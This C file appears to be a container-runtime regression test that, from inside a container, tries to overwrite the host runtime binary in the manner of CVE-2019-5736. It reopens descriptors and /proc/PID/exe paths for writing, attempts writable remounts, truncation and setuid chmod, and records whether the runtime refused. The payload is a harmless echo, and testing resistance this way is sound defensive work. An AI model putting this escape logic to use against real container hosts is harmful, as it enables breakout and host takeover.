/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Inside a container: tries to write to the runtime's binary (CVE-2019-5736).
 *
 *   overwrite fd N            the binary is descriptor N (evil_loader.c)
 *   overwrite watch SECONDS   looks for it behind /proc/PID/exe of every process that appears
 *
 * Writes to /result what came of it: "OVERWRITTEN" and how, "refused" and why, or "not seen".
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/mount.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define PAYLOAD "#!/bin/sh\necho the host runs the attacker\n"

static void __attribute__((format(printf, 1, 2), noreturn)) end(const char *format, ...)
{
	FILE *result = fopen("/result", "w");
	va_list arguments;

	va_start(arguments, format);
	if (result)
		vfprintf(result, format, arguments);
	va_end(arguments);
	exit(0);
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* A privileged attacker first tries to make the mount behind the descriptor writable, in every way there is. */
static int writable_mount(int fd, const char *path)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY }, again = writable;
	int tree;

	(void)syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable));
	(void)mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
	(void)mount(NULL, path, NULL, MS_REMOUNT, NULL);
	tree = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
	if (tree >= 0)
		(void)syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &again, sizeof(again));
	return tree;
}

static bool try_path(const char *path, int flags)
{
	int fd = open(path, flags);

	if (fd < 0)
		return false;
	if (write(fd, PAYLOAD, sizeof(PAYLOAD) - 1) > 0)
		end("OVERWRITTEN through %s with flags %#x\n", path, (unsigned int)flags);
	(void)close(fd);
	return true;
}

/* The binary is busy for as long as the runtime lives; then it must be something else that refuses. */
static int attack(int fd, double seconds)
{
	char path[64], clone_path[64] = "";
	double until = now() + seconds;
	int tree, code;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	tree = writable_mount(fd, path);
	if (tree >= 0)
		snprintf(clone_path, sizeof(clone_path), "/proc/self/fd/%d", tree);
	do {
		(void)try_path(path, O_WRONLY | O_TRUNC);
		(void)try_path(path, O_RDWR);
		(void)try_path(path, O_WRONLY | O_APPEND);
		code = errno;
		if (tree >= 0)
			(void)try_path(clone_path, O_WRONLY | O_TRUNC);
		usleep(1000);
	} while (code == ETXTBSY && now() < until);
	if (truncate(path, 0) == 0)
		end("OVERWRITTEN by truncate\n");
	/* A copy in memory lets itself be changed so far; the caller compares the original. */
	(void)chmod(path, 06777);
	return code;
}

static bool is_file(const struct stat *status, const char *path)
{
	struct stat other;

	return stat(path, &other) == 0 && status->st_dev == other.st_dev && status->st_ino == other.st_ino;
}

/* What a process of the image would execute is this program or busybox. */
static bool is_runtime(int fd)
{
	struct stat status;

	return fstat(fd, &status) == 0 && S_ISREG(status.st_mode) && !is_file(&status, "/proc/self/exe") &&
	       !is_file(&status, "/bin/busybox");
}

static void watch(double seconds)
{
	double until = now() + seconds;

	while (now() < until) {
		for (int pid = 2; pid < 100; pid++) {
			char path[64];
			int fd;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_PATH);
			if (fd >= 0 && is_runtime(fd))
				end("refused: %s\n", strerror(attack(fd, 5)));
			if (fd >= 0)
				(void)close(fd);
		}
	}
	end("not seen\n");
}

int main(int argc, char **argv)
{
	struct stat status;

	if (argc != 3)
		return 2;
	if (strcmp(argv[1], "watch") == 0)
		watch(atof(argv[2]));
	if (fstat(atoi(argv[2]), &status) < 0)
		end("no descriptor\n");
	end("refused: %s\n", strerror(attack(atoi(argv[2]), 5)));
}
